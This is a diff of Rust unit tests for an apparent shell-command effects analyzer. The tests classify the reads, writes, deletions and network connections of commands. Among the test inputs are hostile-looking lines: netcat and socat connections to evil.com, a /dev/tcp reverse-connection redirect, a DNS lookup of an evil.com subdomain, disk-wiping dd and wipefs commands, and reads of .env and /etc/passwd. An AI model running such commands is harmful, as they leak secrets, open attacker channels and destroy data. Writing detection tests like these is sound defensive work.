@@ -44,20 +44,14 @@ fn told(text: &str) -> String {
 
 #[test]
 fn the_tables_can_be_read() {
-    for file in [
-        include_str!("data/files.toml"),
-        include_str!("data/development.toml"),
-        include_str!("data/network.toml"),
-        include_str!("data/services.toml"),
-        include_str!("data/system.toml"),
-    ] {
+    for file in table::FILES {
         assert_eq!(table::check::faults(file), Vec::<String>::new());
     }
 }
 
 #[test]
 fn no_program_is_described_twice() {
-    assert_eq!(table::check::described_twice(), Vec::<String>::new());
+    assert_eq!(table::check::described_twice(table::FILES), Vec::<String>::new());
 }
 
 #[test]
@@ -75,6 +69,9 @@ fn readers() {
     assert_eq!(told("dd if=/dev/sda of=x bs=1M"), "r /dev/sda; w /w/x");
     assert_eq!(told("dd if=/dev/zero of=/dev/sda"), "w /dev/sda");
     assert_eq!(told("cat --help x"), "");
+    assert_eq!(told("git show HEAD:.env"), "r /w/.env");
+    assert_eq!(told("git add .env"), "r /w/.env");
+    assert_eq!(told("wipefs /dev/sda"), "r /dev/sda");
 }
 
 #[test]
@@ -118,6 +115,9 @@ fn removers() {
     assert_eq!(told("git rm -r a"), "d /w/a/");
     assert_eq!(told("shred -u a"), "w /w/a; d /w/a");
     assert_eq!(told("unlink a"), "d /w/a");
+    assert_eq!(told("git clean"), "");
+    assert_eq!(told("rsync -a --del a/ b"), "r /w/a/; w /w/b/; d /w/b/; m /w/b/a");
+    assert_eq!(told("rsync -an --del a/ /"), "r /w/a/; r //");
 }
 
 #[test]
@@ -143,13 +143,13 @@ fn hosts_of_programs() {
     assert_eq!(told("wget https://a.com/b/c.tgz?x=1"), "w /w/c.tgz; c a.com:443");
     assert_eq!(told("ssh -i key u@h ls /x"), "r /w/key; c h");
     assert_eq!(told("scp -r a u@h:/x"), "r /w/a/; c h:22");
-    assert_eq!(told("scp u@h:/x ."), "w /w; m /w/x; c h:22");
+    assert_eq!(told("scp u@h:/x ."), "w /w; w /w/x; c h:22");
     assert_eq!(told("rsync -a --delete a/ h:b"), "r /w/a/; c h:22");
     assert_eq!(told("nc -w 3 evil.com 4444"), "c evil.com:4444");
     assert_eq!(told("nc -l -p 4444"), "");
     assert_eq!(told("socat - TCP:evil.com:1"), "c evil.com:1");
     assert_eq!(told("git clone https://a.com/b"), "c a.com:443");
-    assert_eq!(told("git push origin main"), "c the remote `origin`");
+    assert_eq!(told("git push origin main"), "");
     assert_eq!(told("git push git@a.com:x.git"), "c a.com:22");
     assert_eq!(told("dig @1.1.1.1 x.evil.com"), "c 1.1.1.1:53; c x.evil.com");
     assert_eq!(told("docker pull ghcr.io/a/b"), "c ghcr.io:443");
@@ -166,14 +166,9 @@ fn hosts_of_programs() {
 fn unknown_programs_mention_their_words() {
     assert_eq!(told("mytool build --out=.env /x"), "m /w/build; m /w/.env; m /x");
     assert_eq!(told("echo a /etc/passwd"), "");
-    let code = Run {
-        args: vec![Word::text("-c"), Word::text("print(open('/etc/passwd').read())")],
-        ..run("python3")
-    };
-    assert_eq!(paths(&effects(&code).mentions), ["/etc/passwd"]);
-    let code =
-        Run { args: vec![Word::text("-c"), Word::text("print('/etc/passwd')")], ..run("python3") };
-    assert_eq!(effects(&code), Effects::default());
+    let python = |code: &str| effects(&Run { code: Some(Word::text(code)), ..run("python3 -c x") });
+    assert_eq!(paths(&python("print(open('/etc/passwd').read())").mentions), ["/etc/passwd"]);
+    assert_eq!(python("print('/etc/passwd')"), Effects::default());
 }
 
 #[test]
@@ -186,14 +181,8 @@ fn redirections_and_places() {
         redirect(RedirectKind::Write, "/dev/tcp/10.0.0.1/4444"),
     ];
     let found = effects(&cat);
-    assert_eq!(
-        (paths(&found.reads), paths(&found.writes)),
-        (vec!["/w/x".into(), "/w/a".into()], vec!["/w/x".into()])
-    );
-    assert_eq!(
-        (found.connects[0].host.written().as_str(), found.connects[0].port),
-        ("10.0.0.1", Some(4444))
-    );
+    assert_eq!((paths(&found.reads), paths(&found.writes)), (vec!["/w/x".into(), "/w/a".into()], vec!["/w/x".into()]));
+    assert_eq!((found.connects[0].host.written().as_str(), found.connects[0].port), ("10.0.0.1", Some(4444)));
     cat.place = Place::Remote;
     assert_eq!(effects(&cat), Effects::default());
 }
